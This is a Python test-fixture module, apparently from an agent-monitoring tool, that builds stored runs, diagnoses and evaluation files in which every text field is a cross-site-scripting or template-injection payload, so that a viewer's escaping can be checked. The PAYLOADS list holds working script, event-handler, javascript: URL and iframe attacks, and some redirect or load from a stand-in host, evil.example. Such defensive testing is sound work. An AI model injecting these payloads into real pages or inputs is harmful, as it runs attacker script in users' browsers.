"""Runs whose every text is an attack on the viewer, generated from the fields of the dataclasses.

A new field of a class is covered automatically. Only the values that must be consistent for a run to be
stored
(indices of steps, ids of branches, offsets of quotes) are corrected afterwards.
"""

from __future__ import annotations

import itertools
import types
import typing
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import MISSING, fields, is_dataclass, replace
from enum import Enum
from typing import Any, Literal, TypeVar, get_args, get_origin, get_type_hints

from agentguard.detect.base import Evidence, Finding
from agentguard.detect.finding_rows import build_finding_rows
from agentguard.evals.prediction import Prediction
from agentguard.evals.scoring import Case
from agentguard.localize.base import Diagnosis
from agentguard.localize.serialization import build_diagnosis_rows
from agentguard.recover.actions import RecoveryAction
from agentguard.recover.plan import Recovery, RecoveryPlan
from agentguard.recover.recovery_rows import to_recovery_row
from agentguard.schemata.model import ErrorSchema
from agentguard.schemata.persistence import SqlSchemaStore
from agentguard.store import Store
from agentguard.store.db.rows import EffectRow, JudgementRow
from agentguard.trajectory.model import Annotation, Branch, Record, Step, Trajectory

T = TypeVar("T")

FLAG = "__pwned"
_SET = f"window.{FLAG}=1"
PAYLOADS: tuple[str, ...] = (
    f"<script>{_SET};alert(1)</script>",
    f'"><img src=x onerror="{_SET}">',
    f"'><svg/onload='{_SET}'>",
    f"javascript:{_SET}//",
    f"</title></textarea></style></script><script>{_SET}</script>",
    f'<iframe srcdoc="<script>parent.{FLAG}=1</script>"></iframe>',
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/a.css>",
    f'" onmouseover="{_SET}" onfocus="{_SET}" autofocus tabindex=1 x="',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    f'<form action=//evil.example><button formaction="javascript:{_SET}">x</button></form>',
    f"{{{{ cycler.__init__.__globals__ }}}}${{{_SET}}}<%= {_SET} %>",
    f'\u2028--><!--]]><a href="data:text/html,<script>{_SET}</script>">x</a>\u202e\ud800',
)
"""Attacks by injection point: elements, attributes, addresses, templates, comments, characters."""


class Maker:
    """Factory of values of any type with an attack for every text; each starts with another attack."""

    def __init__(self, first: int) -> None:
        self._texts: Iterator[str] = itertools.cycle((*PAYLOADS[first:], *PAYLOADS[:first]))
        self._count = itertools.count(1)

    def text(self) -> str:
        """Return the next attack."""
        return next(self._texts)

    def id(self) -> str:
        """Return an attack that is a valid row id: printable, short and unique."""
        text = "".join(one for one in self.text() if one.isprintable() and not 0xD800 <= ord(one) < 0xE000)
        return f"{text[:200]}{next(self._count)}"

    def make(self, kind: Any) -> Any:
        """Return a value of a type, including nested values."""
        origin, inner = get_origin(kind), get_args(kind)
        if origin in (typing.Union, types.UnionType):
            return self.make(next(one for one in inner if one is not type(None)))
        if origin is Literal:
            return inner[0]
        if origin in (tuple, list, Sequence):
            return self._several(origin, inner)
        if origin in (dict, Mapping):
            return {self._key(inner[0]): self.make(inner[1]) for _ in range(2)}
        if is_dataclass(kind):
            return self.build(typing.cast(type, kind))
        if isinstance(kind, type) and issubclass(kind, Enum):
            return next(iter(kind))
        plain = {str: self.text, int: lambda: 1, float: lambda: 0.5, bool: lambda: True}
        return plain[kind]() if kind in plain else {self.text(): [self.text(), {self.text(): self.text()}]}

    def build(self, kind: type[T], **given: Any) -> T:
        """Return a dataclass with a value for every field except the given ones."""
        hints = get_type_hints(kind)
        found = {one.name: given.get(one.name, MISSING) for one in fields(kind) if one.init}  # type: ignore[arg-type]
        return kind(
            **{name: self.make(hints[name]) if value is MISSING else value for name, value in found.items()}
        )

    def _key(self, kind: Any) -> Any:
        return next(self._count) if kind is int else self.text()

    def _several(self, origin: Any, inner: tuple[Any, ...]) -> Any:
        if origin is tuple and Ellipsis not in inner:
            return tuple(self.make(one) for one in inner)
        made = [self.make(inner[0]) for _ in range(2)]
        return made if origin is list else tuple(made)


def hostile_run(first: int) -> tuple[Record, Diagnosis, list[Recovery]]:
    """Return a run with its diagnosis and recoveries; every text is an attack."""
    maker = Maker(first)
    run = maker.build(Trajectory, id=maker.id(), steps=_steps(maker, 3), branches=())
    left = maker.build(Branch, id=maker.id(), fork_step=2, steps=_steps(maker, 2, at=2), parent=None)
    run = replace(run, branches=(left,))
    quote = run.steps[1].content[:40]
    evidence = (
        Evidence(step=1, field="content", quote=quote, start=0, end=len(quote)),
        maker.build(Evidence),
    )
    diagnosis = maker.build(Diagnosis, trajectory_id=run.id)
    hypotheses = tuple(replace(one, step=1, evidence=evidence) for one in diagnosis.hypotheses)
    findings = tuple(
        replace(one, step=1, evidence=evidence) for one in (*diagnosis.findings, maker.build(Finding))
    )
    diagnosis = replace(diagnosis, hypotheses=hypotheses, findings=findings)
    return Record(trajectory=run, annotation=maker.build(Annotation)), diagnosis, _recoveries(maker, run.id)


def _steps(maker: Maker, number: int, *, at: int = 0) -> tuple[Step, ...]:
    return tuple(maker.build(Step, index=at + place) for place in range(number))


def _recoveries(maker: Maker, run: str) -> list[Recovery]:
    """Return a recovery with every kind of action."""
    actions = tuple(maker.build(kind) for kind in get_args(RecoveryAction))
    plan = maker.build(RecoveryPlan, actions=actions, step=1)
    ids = (maker.id(), maker.id())
    return [maker.build(Recovery, run=run, id=1, plan=plan, at_step=3, schemata=ids)]


def write_hostile(store: Store) -> tuple[str, ...]:
    """Store a run for each first attack with all related rows; return the ids of the runs."""
    ids, schemata = [], []
    for first in range(len(PAYLOADS)):
        maker = Maker(first)
        record, diagnosis, recoveries = hostile_run(first)
        run = record.trajectory.id
        ids.append(run)
        store.write_run(record)
        store.write(*build_diagnosis_rows(diagnosis), *build_finding_rows(run, diagnosis.findings))
        store.write(*map(to_recovery_row, recoveries))
        store.claim(maker.build(EffectRow, run_id=run, line="", tenant=""))
        store.write(maker.build(JudgementRow, run_id=run, id=maker.id(), subject_id=maker.id(), tenant=""))
        schema = maker.build(ErrorSchema, id=f"schema-{first}")
        schemata.append(replace(schema, provenance=replace(schema.provenance, runs=(run,))))
    SqlSchemaStore(store).upsert(schemata)
    store.flush(60)
    health = store.get_health()
    assert not health.refused, health.last_refusal
    return tuple(ids)


def hostile_sheet(runs: Sequence[str]) -> dict[str, Any]:
    """Return an evaluation of these runs, as a file contains it; every text is an attack."""
    from dataclasses import asdict

    maker = Maker(3)
    clean = [_sendable(run) for run in runs]
    cases = [_sendable(asdict(maker.build(Case, run=run, id=run, length=3))) for run in clean]
    said = [
        _sendable(asdict(maker.build(Prediction, run=run, repeat=0, fold=0, steps=(1, 1)))) for run in clean
    ]
    method = {"setting": "untrained", "fit_seconds": 0.0, "predictions": said}
    return {
        "format": "agentguard.evaluation",
        "version": 1,
        "agentguard": PAYLOADS[0],
        "made_at": 1.79e9,
        "dataset": PAYLOADS[1],
        "checksum": PAYLOADS[7],
        "broken": 1,
        "plan": {
            "cv": None, "folds": 2, "repeats": 1, "with_answer": True, "shuffle_labels": True, "seed": 0,
        },
        "cases": cases,
        "methods": [
            {**method, "method": PAYLOADS[4], "measured": True, "baseline": False},
            {**method, "method": PAYLOADS[2], "measured": True, "baseline": False},
            {**method, "method": PAYLOADS[5], "measured": False, "baseline": True},
        ],
    }  # fmt: skip


def _sendable(value: Any) -> Any:
    """Return the same without lone surrogates, which a JSON file cannot contain."""
    if isinstance(value, str):
        return value.encode("utf-8", "replace").decode()
    if isinstance(value, dict):
        return {key: _sendable(held) for key, held in value.items()}
    return [_sendable(one) for one in value] if isinstance(value, list | tuple) else value
